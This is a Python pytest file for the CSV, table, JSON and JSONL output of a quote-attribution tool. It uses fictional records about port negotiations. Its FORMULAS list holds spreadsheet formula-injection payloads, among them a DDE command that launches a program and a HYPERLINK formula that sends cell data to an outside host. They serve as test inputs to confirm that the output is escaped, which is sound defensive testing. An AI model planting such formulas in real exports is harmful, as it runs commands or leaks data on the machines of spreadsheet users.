"""The sinks on hand-built records (no spaCy): CSV columns, the table, JSON and JSONL."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import re

import pytest
from rich.console import Console

from tealeaves.models import Actor, Document, DocumentResult, InputError, Result, Span, Standoff, Statement, Warning
from tealeaves.sinks.output import (
    CSV_FIELDS,
    FORMATS,
    FORMULA_STARTS,
    ResultStream,
    csv_columns,
    csv_text,
    format_error,
    plain_text,
    render_table,
    write_csv,
    write_json,
    write_jsonl,
)
from tealeaves.sinks.output import write as write_result

TEXT = (
    "“We will not move,” said Jane Doe. “Not an inch.” "
    "Rafael Osei said the talks were [bold]doomed[/bold]. "
    "Someone said the port would close."
)
LONG = "the harbour " * 30  # 360 characters of reported clause


def _span(needle: str) -> Span:
    start = TEXT.index(needle)
    return Span(start, start + len(needle), needle)


def _result() -> Result:
    document = Document(id="abc123", source="port.txt", text=TEXT, title="Port talks stall")
    jane = Actor(id="jane_doe", name="Jane Doe", kind="official", role="port minister", side="Saren")
    osei = Actor(id="osei", name="Rafael Osei", kind="analyst", role="maritime analyst",
                 side=None, affiliation="Halden Institute")
    statements = (
        Statement(id="abc-s01", kind="direct", start=0, end=49, text=TEXT[:49], speaker_id="jane_doe",
                  quotes=(_span("We will not move"), _span("Not an inch.")),
                  content=(_span("We will not move"), _span("Not an inch.")),
                  speaker_mention=_span("Jane Doe"), cue=_span("said"), signal="refuse", confidence=0.9),
        Statement(id="abc-s02", kind="indirect", start=50, end=99, text=TEXT[50:99], speaker_id="osei",
                  content=(_span("the talks were [bold]doomed[/bold]"),),
                  speaker_mention=_span("Rafael Osei"), cue=_span("said"), confidence=0.8),
        Statement(id="abc-s03", kind="indirect", start=100, end=len(TEXT), text=TEXT[100:],
                  content=(Span(0, len(LONG), LONG),), confidence=0.2),
    )
    warning = Warning(kind="role_conflict", message="Osei is called both analyst and minister",
                      evidence="Rafael Osei", actor_id="osei")
    return Result(
        documents=(DocumentResult(document, (jane, osei), statements, warnings=(warning,), model="en_test 1.0"),),
        errors=(InputError("feed.jsonl", "line 3: not valid JSON: fix or remove the line", 3),),
    )


def _table(result: Result) -> str:
    console = Console(file=io.StringIO(), width=110, color_system=None)
    render_table(result, console)
    return console.file.getvalue()


FORMULAS = ["=HYPERLINK(\"http://example.org/?\"&A1, \"open\")", "=cmd|' /C calc'!A0", "+1+2", "-2+3",
            "@SUM(A1:A2)", "\t=1", "\r=1"]


@pytest.mark.parametrize("text", [*FORMULAS, "'=already quoted", "''@twice", "'plain", "plain", "", "'", "a=b"])
def test_csv_text_never_starts_a_formula_and_gives_back_the_text(text):
    cell = csv_text(text)
    assert cell[:1] not in FORMULA_STARTS
    assert plain_text(cell) == text
    assert cell == text or cell == "'" + text


def test_analyze_csv_cells_that_look_like_formulas_are_text():
    [document] = _result().documents
    speaker = dataclasses.replace(document.actors[0], name=FORMULAS[0], role=FORMULAS[1], side=FORMULAS[4])
    hostile = dataclasses.replace(document, document=dataclasses.replace(document.document, source=FORMULAS[3]),
                                  actors=(speaker, *document.actors[1:]))
    stream = io.StringIO()
    write_csv(Result(documents=(hostile,)), stream)
    rows = list(csv.DictReader(io.StringIO(stream.getvalue())))
    assert all(cell[:1] not in FORMULA_STARTS for row in rows for cell in row.values())
    assert rows[0]["speaker_name"] == "'" + FORMULAS[0] and rows[0]["document_source"] == "'-2+3"
    assert rows[0]["confidence"] == "0.9"  # numbers stay numbers


def test_csv_has_one_row_per_statement_with_the_chosen_columns():
    stream = io.StringIO()
    write_csv(_result(), stream)
    stream.seek(0)
    reader = csv.DictReader(stream)
    rows = list(reader)
    assert reader.fieldnames == csv_columns()
    assert len(csv_columns()) == len(CSV_FIELDS)
    assert csv_columns()[:5] == ["document_id", "document_source", "statement_id", "kind", "speaker_id"]
    assert {"speaker_name", "speaker_role", "speaker_side", "speaker_kind", "cue", "quotes",
            "content", "start", "end", "signal", "confidence"} <= set(csv_columns())
    assert [r["statement_id"] for r in rows] == ["abc-s01", "abc-s02", "abc-s03"]
    jane, osei, unknown = rows
    assert jane["speaker_name"] == "Jane Doe" and jane["speaker_side"] == "Saren"
    assert jane["quotes"] == "We will not move | Not an inch."
    assert jane["cue"] == "said" and jane["signal"] == "refuse" and jane["confidence"] == "0.9"
    assert (jane["start"], jane["end"]) == ("0", "49")
    assert osei["speaker_side"] == "Halden Institute"  # an observer's affiliation, not a side
    assert osei["speaker_kind"] == "analyst" and osei["quotes"] == ""
    assert unknown["speaker_id"] == unknown["speaker_name"] == unknown["cue"] == ""


def test_table_shows_speakers_quotes_warnings_and_errors():
    out = _table(_result())
    assert "Port talks stall" in out and "en_test 1.0" in out
    assert "Jane Doe" in out and "port minister · Saren" in out
    assert "“We will not move” … “Not an inch.”" in out
    assert re.search(r"^\s*3\s+\?\s", out, re.MULTILINE), out  # unknown speaker
    osei_cell = out.split("Rafael Osei", 1)[1].split("\n3 ", 1)[0]
    assert "observer" in osei_cell and "observer" not in out.split("Rafael Osei", 1)[0]
    assert "[bold]doomed[/bold]" in out  # article text is never read as rich markup
    assert "role_conflict" in out and "both analyst and minister" in out
    assert "feed.jsonl:3: not valid JSON" in out  # "line 3: " is not repeated
    assert "Errors (1 input not read)" in out


def test_table_clips_long_statements():
    out = _table(_result())
    assert "…" in out
    assert out.count("harbour") < 20  # 30 in the full clause, about 13 fit in 160 characters


def test_unknown_speaker_is_dim():
    console = Console(file=io.StringIO(), width=110, force_terminal=True, color_system="standard")
    render_table(_result(), console)
    assert re.search(r"\x1b\[2m\?\s*\x1b\[0m", console.file.getvalue())


def test_an_impression_or_a_question_names_nobody_rather_than_a_speaker_not_found():
    result = _result()
    document = result.documents[0]
    asked = dataclasses.replace(document.statements[2], cue_sense="question")
    out = _table(Result(documents=(dataclasses.replace(document, statements=(*document.statements[:2], asked)),)))
    assert "nobody named" in out and "nobody named" not in _table(result)  # a speaker not found is still "?"


def test_empty_result_says_so():
    assert "Nothing to show" in _table(Result())


def test_json_is_the_whole_contract_and_round_trips():
    result = _result()
    stream = io.StringIO()
    write_json(result, stream)
    text = stream.getvalue()
    assert json.loads(text) == json.loads(json.dumps(result.to_dict()))
    assert "“We will not move,”" in text  # ensure_ascii=False
    assert text.startswith('{\n  "documents"')  # indent 2


def test_jsonl_has_a_line_per_document_then_per_error():
    stream = io.StringIO()
    write_jsonl(_result(), stream)
    lines = [json.loads(line) for line in stream.getvalue().splitlines()]
    assert len(lines) == 2
    assert lines[0]["id"] == "abc123" and len(lines[0]["statements"]) == 3
    assert lines[1] == {"error": {"source": "feed.jsonl", "line": 3,
                                  "error": "line 3: not valid JSON: fix or remove the line"}}


def test_format_error():
    assert format_error(InputError("a.txt", "file is empty")) == "a.txt: file is empty"
    assert format_error(InputError("b.jsonl", "line 2: no 'text' field", 2)) == "b.jsonl:2: no 'text' field"


class _Stdout(io.StringIO):
    """A pipe's end, as ``table_console`` sees it: not a terminal."""

    def isatty(self) -> bool:
        return False


@pytest.mark.parametrize("format_", FORMATS)
@pytest.mark.parametrize("documents, errors", [(0, 0), (0, 1), (1, 0), (2, 1)])
def test_a_streamed_result_is_written_as_the_whole_result_would_be(format_, documents, errors):
    """``analyze`` writes each document as it comes back: the bytes must be those of ``write``
    on the whole Result, for every format, with no, one or several documents and errors."""
    whole = _result()
    shown = tuple(dataclasses.replace(whole.documents[0], document=dataclasses.replace(
        whole.documents[0].document, id=f"doc{n}", source=f"port{n}.txt")) for n in range(documents))
    result = Result(shown, whole.errors[:errors])
    expected = _Stdout()
    write_result(result, format_, expected)
    streamed = _Stdout()
    writer = ResultStream(format_, streamed)
    for document in result.documents:
        writer.document(document)
    writer.close(result.errors)
    assert streamed.getvalue() == expected.getvalue()
    if format_ == "json":
        assert json.loads(streamed.getvalue()) == result.to_dict()


def test_a_streamed_document_is_flushed_before_the_next_is_given():
    flushed = []

    class Pipe(_Stdout):
        def flush(self) -> None:
            flushed.append(self.getvalue())

    pipe = Pipe()
    writer = ResultStream("jsonl", pipe)
    writer.document(_result().documents[0])
    assert flushed and json.loads(flushed[-1])["id"] == "abc123"


def test_factual_disputes_are_listed_apart_from_standoffs():
    result = _result()
    document = dataclasses.replace(result.documents[0], standoffs=(
        Standoff("x01", ("Saren", "Velmar"), ("abc-s01", "abc-s02"), "the quay", "Saren refuses the quay deal",
                 score=0.6),
        Standoff("x02", ("Saren", "Velmar"), ("abc-s01", "abc-s03"), "the ferry", "the two count the ferry dead apart",
                 kind="factual_dispute", score=0.4)))
    out = _table(dataclasses.replace(result, documents=(document,)))
    standoffs, disputes = out.split("Standoffs", 1)[1].split("Factual disputes", 1)
    assert "refuses the quay deal" in standoffs and "ferry" not in standoffs
    assert "count the ferry dead apart" in disputes
